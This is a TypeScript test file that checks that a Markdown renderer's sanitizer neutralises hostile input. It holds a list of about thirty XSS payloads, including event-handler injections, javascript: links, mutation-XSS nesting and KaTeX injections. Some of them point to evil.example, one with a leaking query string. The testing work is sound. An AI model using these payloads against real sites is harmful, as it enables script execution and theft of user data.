// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { enhance } from '../src/markdown/enhance';
import { parse } from '../src/markdown/parse';
import { sanitize } from '../src/markdown/sanitize';

function show(markdown: string): HTMLElement {
  const place = document.createElement('div');
  for (const { html } of parse(markdown)) place.append(enhance(sanitize(html)));
  return place;
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '![x](http://evil.example/?secret=1)',
  '![x" onerror="alert(1)](x)',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<b onmouseover="alert(1)">x</b>',
  '<form action=//evil.example><input name=key><button>go</button></form>',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<object data="//evil.example"></object>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '$<img src=x onerror=alert(1)>$',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlStyle{position:fixed}{x} \\includegraphics{//evil.example}$',
  '$$\\url{javascript:alert(1)}$$',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '<span class="notice-place layout">x</span>',
  '<br/onclick=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
];

describe('hostile Markdown', () => {
  it.each(attacks)('does nothing: %s', (attack) => {
    for (const element of show(attack).querySelectorAll('*')) {
      expect(['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'FORM', 'OBJECT', 'META', 'BASE', 'FOREIGNOBJECT']).not.toContain(
        element.nodeName.toUpperCase(),
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^srcdoc$|^src$|^id$/);
        if (/href/.test(name)) expect(value).toMatch(/^(https?|mailto):/);
      }
      expect([...element.classList].join(' ')).not.toMatch(/notice|layout/);
      // KaTeX alone sets styles.
      if (element.hasAttribute('style')) expect(element.closest('.katex, .katex-error')).not.toBeNull();
    }
  });

  it('is shown as it was written', () => {
    expect(show('Use <script>alert(1)</script> here').textContent).toBe('Use <script>alert(1)</script> here\n');
    expect(show('<div class="x">text</div>').textContent).toContain('<div class="x">text</div>');
  });
});

describe('Markdown', () => {
  it('keeps what is harmless', () => {
    const table = show('| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(table.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
    expect(show('3. three').querySelector('ol')?.start).toBe(3);
    expect(show('- [x] done').querySelector('input')?.checked).toBe(true);
    expect(show('H<sub>2</sub>O<br>x').querySelectorAll('sub, br')).toHaveLength(2);
  });

  it('opens links elsewhere, without telling where from', () => {
    const link = show('[x](https://example.com/a?b=1&c=2)').querySelector('a');
    expect(link?.href).toBe('https://example.com/a?b=1&c=2');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('makes a link of an image, for an image would be a request', () => {
    expect(show('![A cat](https://example.com/cat.png)').querySelector('a')?.textContent).toBe('A cat');
  });

  it('marks code, with its language and a button', () => {
    const code = show('```python\ndef f(): pass\n```');
    expect(code.querySelector('.code-head span')?.textContent).toBe('python');
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(code.querySelector('button')?.getAttribute('aria-label')).toBe('Copy python code');
    expect(show('```\n1 < 2\n```').querySelector('code')?.textContent).toBe('1 < 2\n');
  });

  it('knows formulas from prices', () => {
    const formulas = (text: string) => show(text).querySelectorAll('.math').length;
    expect(formulas('It is $x^2$ and \\(y\\).')).toBe(2);
    expect(formulas('$$\na\n$$\n\n\\[b\\]')).toBe(2);
    expect(formulas('It costs $5 or $6; $7 is too much.')).toBe(0);
    expect(formulas('`$x$` and \\$x\\$')).toBe(0);
    expect(show('$$x$$').querySelector('.katex-display')).not.toBeNull();
    expect(show('$\\frac{1}{$').querySelector('.katex-error')?.textContent).toContain('\\frac{1}{');
  });

  it('is read again only where it has changed', () => {
    const before = parse('# One\n\nTwo');
    const after = parse('# One\n\nTwo and more');
    expect(after[0]).toEqual(before[0]);
    expect(after[1]).not.toEqual(before[1]);
  });

  it('finds links that are defined at its end', () => {
    expect(show('See [x].\n\n[x]: https://example.com/').querySelector('a')?.href).toBe('https://example.com/');
  });
});
